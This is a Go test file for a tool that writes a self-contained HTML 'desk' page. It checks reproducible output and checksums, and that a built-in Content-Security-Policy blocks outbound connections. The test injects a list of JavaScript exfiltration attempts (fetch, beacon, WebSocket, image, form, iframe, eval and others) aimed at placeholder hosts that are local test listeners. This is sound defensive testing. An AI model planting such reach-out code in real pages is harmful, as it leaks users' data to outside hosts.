package desk

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"keyferry/e2e/browser"
	"keyferry/e2e/program"
	"keyferry/server/desk"
)

// The same program writes the same bytes, and says their digest; the folder for a static host holds
// the same page.
func TestDeskFile(t *testing.T) {
	if testing.Short() {
		t.Skip("needs the program")
	}
	folder := t.TempDir()
	var files [2][]byte
	for i := range files {
		name := filepath.Join(folder, fmt.Sprint(i, ".html"))
		output, err := exec.Command(program.Binary, "desk", name).CombinedOutput()
		if err != nil {
			t.Fatalf("writing the desk: %v\n%s", err, output)
		}
		files[i] = program.ReadFile(t, name)
		digest := sha256.Sum256(files[i])
		if !strings.Contains(string(output), hex.EncodeToString(digest[:])) {
			t.Errorf("the program says %q for a file of %x", output, digest)
		}
	}
	site := filepath.Join(folder, "site")
	if output, err := exec.Command(program.Binary, "desk", "--dir", site).CombinedOutput(); err != nil {
		t.Fatalf("writing the folder: %v\n%s", err, output)
	}
	if string(files[0]) != string(files[1]) || string(files[0]) != string(program.ReadFile(t, filepath.Join(site, "index.html"))) {
		t.Error("the same program wrote different desks")
	}
	if output, err := (softHSM{}).try(site, "sha256sum -c SHA256SUMS"); err != nil {
		t.Errorf("SHA256SUMS does not fit: %s", output)
	}
	if size := len(files[0]); size > 6<<20 {
		t.Errorf("the desk has %d bytes, and 6 MB at most are promised", size)
	}
	text := string(files[0])
	for _, outside := range []string{`src="http`, `href="http`, `src="/`, `href="/`, "@import", "url("} {
		if strings.Contains(text, outside) {
			t.Errorf("the desk names something outside itself: %s", outside)
		}
	}
	for _, arguments := range [][]string{{"desk"}, {"desk", "--dir", site, filepath.Join(folder, "2.html")}, {"desk", filepath.Join(folder, "no", "such", "folder.html")}} {
		if output, err := exec.Command(program.Binary, arguments...).CombinedOutput(); err == nil {
			t.Errorf("%q was accepted: %s", arguments, output)
		}
	}
}

// catcher counts what reaches it by HTTP and by a bare connection.
type catcher struct {
	site    *httptest.Server
	bare    net.Listener
	reached atomic.Int64
	news    program.News // of reached
}

func (l *catcher) caught() {
	l.reached.Add(1)
	l.news.Tell()
}

func listenEverywhere(t *testing.T) *catcher {
	t.Helper()
	l := &catcher{}
	l.site = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		l.caught()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Content-Type", "text/javascript")
	}))
	t.Cleanup(l.site.Close)
	var err error
	if l.bare, err = net.Listen("tcp", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.bare.Close() })
	go func() {
		for {
			connection, err := l.bare.Accept()
			if err != nil {
				return
			}
			l.caught()
			connection.Close()
		}
	}()
	return l
}

// mustBeUnreached closes the page and fails if anything of it arrived. Whatever was under way has
// arrived when what comes after it has.
func (l *catcher) mustBeUnreached(v *browser.Visit) {
	v.T.Helper()
	v.Do(v.Page.Close())
	const later = 2
	connection, err := net.Dial("tcp", l.bare.Addr().String())
	v.Do(err)
	io.Copy(io.Discard, connection) // until it was counted and closed
	connection.Close()
	answer, err := http.Get(l.site.URL)
	v.Do(err)
	answer.Body.Close()
	if reached := l.reached.Load(); reached != later {
		v.T.Errorf("%d attempts arrived outside", reached-later)
	}
}

// attempts are ways for a script to reach out. HTTP and BARE are placeholders of addresses that
// record whatever reaches them.
var attempts = map[string]string{
	"fetch":          `await fetch("HTTP/fetch?leak", {mode: "no-cors"})`,
	"XMLHttpRequest": `const x = new XMLHttpRequest(); x.open("GET", "HTTP/xhr", false); x.send()`,
	"WebSocket":      `await new Promise((ok, no) => { const s = new WebSocket("ws://BARE/"); s.onopen = ok; s.onerror = no })`,
	"EventSource":    `await new Promise((ok, no) => { const s = new EventSource("HTTP/events"); s.onopen = ok; s.onerror = no })`,
	"import":         `await import("HTTP/module.js")`,
	"importScripts":  `importScripts("HTTP/script.js")`,
	"sub-worker":     `new Worker("HTTP/worker.js")`,
	"beacon":         `if (!navigator.sendBeacon("HTTP/beacon", "leak")) throw new Error("refused")`,
	"image":          `await new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = "HTTP/image.png" })`,
	"style sheet":    `const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "HTTP/style.css"; document.head.append(l)`,
	"form":           `const f = document.createElement("form"); f.method = "post"; f.action = "HTTP/form"; document.body.append(f); f.submit()`,
	"frame":          `const f = document.createElement("iframe"); f.src = "HTTP/frame"; document.body.append(f)`,
	"eval":           `eval("fetch('HTTP/eval')")`,
}

var inWorker = []string{"fetch", "XMLHttpRequest", "WebSocket", "EventSource", "import", "importScripts", "sub-worker", "eval"}
var onPage = []string{"fetch", "XMLHttpRequest", "WebSocket", "EventSource", "import", "beacon", "image", "style sheet", "form", "frame", "eval"}

// sabotaged writes a desk whose page or worker tries to reach out as soon as it runs, in every way
// of a list.
func (l *catcher) sabotaged(t *testing.T, worker, policy bool) string {
	t.Helper()
	config, err := desk.Embedded("cn-hangzhou", "sabotaged")
	if err != nil {
		t.Fatal(err)
	}
	return l.sabotage(t, config, worker, policy)
}

// sabotage does it to a desk of any configuration.
func (l *catcher) sabotage(t *testing.T, config desk.Config, worker, policy bool) string {
	t.Helper()
	ways, place := onPage, &config.Page
	if worker {
		ways, place = inWorker, &config.Worker
	}
	var script strings.Builder
	script.WriteString(";(async () => {")
	if worker { // what is refused in a worker is heard there only, so it is passed on; and the worker lives until all was tried
		script.WriteString(`self.close = () => {}; self.addEventListener("securitypolicyviolation", (event) => self.postMessage({violated: event.effectiveDirective}));`)
		config.Page = append([]byte(`const heard = (home) => { home.Worker = class extends home.Worker { constructor(...all) { super(...all); this.addEventListener("message", `+
			`({data}) => { if (data.violated) console.warn("Content Security Policy directive " + data.violated) }) } terminate() {} } };`+
			`heard(globalThis); addEventListener("load", () => { for (const frame of document.querySelectorAll("iframe")) heard(frame.contentWindow) });`), config.Page...)
	}
	for _, way := range ways {
		attempt := strings.NewReplacer("HTTP", l.site.URL, "BARE", l.bare.Addr().String()).Replace(attempts[way])
		fmt.Fprintf(&script, "try { await (async () => { %s })() } catch {};", attempt)
	}
	script.WriteString("})();")
	*place = append([]byte(script.String()), *place...)
	content, err := desk.File(t.Context(), config)
	if err != nil {
		t.Fatal(err)
	}
	if !policy {
		content = regexp.MustCompile(`<meta http-equiv="Content-Security-Policy"[^>]*>`).ReplaceAll(content, nil)
	}
	return program.WriteFile(t, filepath.Join(t.TempDir(), "sabotaged.html"), content)
}

// complaints counts the refusals by policy that the browser spoke of.
func complaints(v *browser.Visit) int {
	v.Mu.Lock()
	defer v.Mu.Unlock()
	count := 0
	for _, said := range v.Said {
		if strings.Contains(said, "Content Security Policy directive") || strings.Contains(said, "requires 'TrustedScript") {
			count++
		}
	}
	return count
}

// A desk that tries to reach out is stopped by the policy in its own file, on the page and in the
// worker, which inherits it. Without the policy the same attempts arrive: that is how we know that
// they would.
func TestDeskIsSealed(t *testing.T) {
	p := program.Start(t)
	for _, test := range []struct {
		name           string
		worker, policy bool
	}{
		{"page", false, true}, {"worker", true, true},
		{"page without the policy", false, false}, {"worker without the policy", true, false},
	} {
		t.Run(test.name, func(t *testing.T) {
			l := listenEverywhere(t)
			v := browser.OpenAt(p, t, browser.Look{}, browser.FileAddress(l.sabotaged(t, test.worker, test.policy)))
			v.Expect(".") // the browser complains of everything that it stops
			ways := len(onPage)
			if test.worker {
				ways = len(inWorker)
				v.DeskCMK(program.Seeded[0])
				v.Do(v.Page.Locator("#answer").Fill(p.AnswerOf(t, program.Seeded[0], browser.Algorithms[0])))
				v.Press(v.Words.Desk.Read)
			}
			done := func() bool {
				if test.policy {
					return complaints(v) >= ways
				}
				return l.reached.Load() >= 3
			}
			news := &l.news
			if test.policy {
				news = &v.News
			}
			if !news.Await(10*time.Second, nil, done) {
				t.Errorf("of %d attempts %d were refused and %d arrived: %q", ways, complaints(v), l.reached.Load(), v.Said)
			}
			if test.policy {
				l.mustBeUnreached(v)
			}
		})
	}
}
